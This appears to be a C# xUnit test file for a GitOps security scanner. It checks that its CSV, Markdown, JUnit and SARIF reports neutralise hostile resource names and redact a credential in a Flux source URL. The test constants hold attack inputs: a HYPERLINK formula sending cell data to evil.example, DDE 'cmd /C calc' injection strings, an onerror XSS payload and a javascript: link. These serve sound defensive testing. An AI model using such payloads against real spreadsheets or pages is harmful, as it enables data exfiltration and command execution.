using System.Globalization;
using System.Net;
using System.Text.Json;
using System.Text.RegularExpressions;
using System.Xml;
using CsvHelper;
using GitOpsSec.Reports;
using GitOpsSec.Tests.Shared;
using Markdig;
using Xunit;

namespace GitOpsSec.Engine.Tests;

/// <summary>
/// Reports over manifests whose names, namespaces, paths and messages an attacker wrote: formulas, HTML,
/// Markdown links and images, mentions, backticks, control characters and newlines. Each report is judged
/// by an independent reader: CsvHelper (RFC 4180), Markdig (CommonMark with GitHub's extensions), the .NET
/// XML parser (XML 1.0) and the official SARIF 2.1.0 schema.
/// </summary>
public sealed class HostileReportTests : IDisposable
{
    private readonly TempDir _dir = new();

    private const string EvilName = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")<img src=x onerror=alert(1)>[pwn](javascript:alert(1))![i](http://evil.example/t.png)`code`<!--@security-team **bold** | col\u0001\u0007";
    private const string EvilNamespace = "+cmd|' /C calc'!A0";
    private const string EvilFolder = "@SUM(1+1)*cmd|' /C calc'!A0";

    private List<Finding> HostileFindings()
    {
        string yaml = $"""
            apiVersion: v1
            kind: Pod
            metadata:
              name: {JsonSerializer.Serialize(EvilName)}
              namespace: {JsonSerializer.Serialize(EvilNamespace)}
            spec:
              containers:
              - name: "-2+3\nline two"
                image: nginx:1.27
                securityContext:
                  privileged: true
            """;
        _dir.Write(Path.Combine(EvilFolder, "pod.yaml"), yaml);
        // The Argo CD Application that deploys it has a hostile name too: it reaches every report as the finding's unit.
        _dir.Write("argocd/app.yaml", $"apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: {JsonSerializer.Serialize(EvilName)}\n  namespace: argocd\n" +
            $"spec:\n  source: {{repoURL: 'https://example.com/x.git', path: {JsonSerializer.Serialize(EvilFolder)}}}\n  destination: {{namespace: {JsonSerializer.Serialize(EvilNamespace)}}}\n");
        var findings = Scan.Analyze(_dir.Path).Findings;
        Assert.Contains(findings, f => f.RuleId == "GOS1003" && f.Resource!.Name == EvilName && f.Application == $"Application/argocd/{EvilName}");
        return findings;
    }

    [Fact]
    public void Csv_cells_never_start_a_formula_and_numbers_stay_numbers()
    {
        var findings = HostileFindings();
        string csv = ReportWriter.Csv(findings);
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        var rows = reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(findings.Count, rows.Count);
        foreach (var row in rows)
        {
            foreach (var (column, value) in row)
            {
                string cell = (string)value;
                Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]) && column != "Line" && column != "Column",
                    $"{column} starts a formula: {cell}");
            }
            Assert.Matches("^[0-9]+$", (string)row["Line"]);
        }
        var evil = rows.First(r => ((string)r["Name"]).Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.Equal("'" + EvilName, evil["Name"]);
        Assert.Equal("'" + EvilNamespace, evil["Namespace"]);
        Assert.StartsWith("'" + EvilFolder, (string)evil["Path"], StringComparison.Ordinal);
    }

    [Fact]
    public void Markdown_renders_attacker_text_as_text()
    {
        var findings = HostileFindings();
        string markdown = ReportWriter.Markdown(findings);
        string html = Markdown.ToHtml(markdown, new MarkdownPipelineBuilder().UseAdvancedExtensions().Build());
        // Only the report's own markup: headings (the report, by application, one per unit), paragraphs, tables, <code> and <strong>.
        foreach (Match tag in Regex.Matches(html, "<(/?)([a-zA-Z0-9]+)"))
        {
            Assert.Contains(tag.Groups[2].Value, new[] { "h2", "h3", "h4", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "code" });
        }
        // The unit's hostile name is a heading's text, not markup.
        Assert.Contains("<h4", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<!--", html, StringComparison.Ordinal);
        Assert.DoesNotContain("href", html, StringComparison.Ordinal);
        // The attacker's text is still all there, as text (a mention is broken by a zero-width space; controls are spaces).
        string text = WebUtility.HtmlDecode(Regex.Replace(html, "<[^>]+>", string.Empty)).Replace("\u200B", string.Empty, StringComparison.Ordinal);
        string expected = Regex.Replace(EvilName, "[\\x00-\\x1F]", " ");
        Assert.Contains(expected, text, StringComparison.Ordinal);
        Assert.Contains(EvilFolder, text, StringComparison.Ordinal);
        // Every finding stays one table row: no newline or pipe in a cell broke the table.
        Assert.Equal(findings.Count(f => !f.Suppressed), Regex.Matches(html, @"<tr>\s*<td>(Critical|High|Medium|Low|Info)</td>\s*<td>GOS").Count);
    }

    [Fact]
    public void JUnit_is_well_formed_XML_1_0_even_with_control_characters()
    {
        var findings = HostileFindings();
        string junit = ReportWriter.JUnit(findings);
        var doc = new XmlDocument();
        doc.LoadXml(junit);
        Assert.Equal(findings.Count, doc.SelectNodes("//testcase")!.Count);
        Assert.Contains(doc.SelectNodes("//testcase")!.Cast<XmlElement>(), t => t.GetAttribute("name").Contains("HYPERLINK", StringComparison.Ordinal));
    }

    [Fact]
    public void Sarif_stays_schema_valid_with_hostile_text()
    {
        var findings = HostileFindings();
        var schema = Json.Schema.JsonSchema.FromText(File.ReadAllText(Path.Combine(TestPaths.RepoRoot, "tests", "data", "sarif", "sarif-schema-2.1.0.json")));
        string sarif = ReportWriter.Sarif(findings);
        var result = schema.Evaluate(JsonDocument.Parse(sarif).RootElement, new Json.Schema.EvaluationOptions { OutputFormat = Json.Schema.OutputFormat.List });
        Assert.True(result.IsValid, string.Join("\n", (result.Details ?? new List<Json.Schema.EvaluationResults>())
            .Where(d => d.Errors is { Count: > 0 } && !d.Errors.Values.Any(v => v.Contains("[\"id\"]"))).Take(10).Select(d => $"{d.InstanceLocation}: {string.Join("; ", d.Errors!.Values)}")));
        Assert.Contains("HYPERLINK", sarif, StringComparison.Ordinal);
    }

    public void Dispose() => _dir.Dispose();
}

public sealed class MessageRedactionTests
{
    [Fact]
    public void A_credential_in_a_Flux_source_URL_is_redacted_in_every_message_and_report()
    {
        using var dir = new TempDir();
        const string password = "Zq8vR2mK7pLx4Tn9";
        dir.Write("flux/source.yaml", $"apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {{name: infra, namespace: flux-system}}\nspec:\n  interval: 1m\n  url: http://deploy:{password}@git.example.com/org/infra.git\n");
        var findings = Scan.Analyze(dir.Path).Findings.Where(f => f.RuleId is "GOS7101" or "GOS7102").ToList();
        Assert.Equal(2, findings.Count);
        Assert.All(findings, f => Assert.Contains("deploy:", f.Message + f.Evidence, StringComparison.Ordinal));
        foreach (ReportFormat format in Enum.GetValues<ReportFormat>())
        {
            Assert.DoesNotContain(password, ReportWriter.Write(format, findings), StringComparison.Ordinal);
        }
        Assert.All(findings, f => Assert.DoesNotContain(password, f.Message + f.Evidence, StringComparison.Ordinal));
    }
}
